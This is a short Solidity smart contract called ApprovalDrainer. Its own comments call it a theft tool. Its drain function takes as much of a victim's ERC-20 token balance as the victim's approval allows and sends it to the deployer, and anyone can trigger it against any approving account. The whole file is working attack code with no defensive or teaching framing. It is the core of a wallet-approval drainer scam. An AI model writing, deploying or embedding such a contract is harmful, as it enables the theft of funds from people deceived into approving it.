// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";

/// @title ApprovalDrainer
/// @notice Turns any approval it is given into theft: `drain` moves as much of the victim's
///         balance as the victim's allowance to this contract permits, straight to the owner.
/// @dev Anyone may call `drain`; the proceeds always go to `owner`, the deployer.
contract ApprovalDrainer {
    using SafeERC20 for IERC20;

    /*//////////////////////////////////////////////////////////////
                                 EVENTS
    //////////////////////////////////////////////////////////////*/

    /// @notice Tokens were taken from a victim.
    /// @param token The token drained.
    /// @param victim The account that had approved this contract.
    /// @param amount Amount taken.
    event Drained(address indexed token, address indexed victim, uint256 amount);

    /*//////////////////////////////////////////////////////////////
                                 STORAGE
    //////////////////////////////////////////////////////////////*/

    /// @notice Receives everything drained.
    address public immutable owner;

    /*//////////////////////////////////////////////////////////////
                               CONSTRUCTOR
    //////////////////////////////////////////////////////////////*/

    /// @notice The deployer becomes `owner`, the recipient of everything drained.
    constructor() {
        owner = msg.sender;
    }

    /*//////////////////////////////////////////////////////////////
                                EXTERNAL
    //////////////////////////////////////////////////////////////*/

    /// @notice Transfers `min(allowance, balance)` of `token` from `victim` to `owner`.
    /// @param token The token to drain.
    /// @param victim An account that approved this contract.
    /// @return amount Amount taken (zero if there was nothing to take).
    function drain(IERC20 token, address victim) external returns (uint256 amount) {
        amount = Math.min(token.allowance(victim, address(this)), token.balanceOf(victim));
        if (amount != 0) token.safeTransferFrom(victim, owner, amount);
        emit Drained(address(token), victim, amount);
    }
}
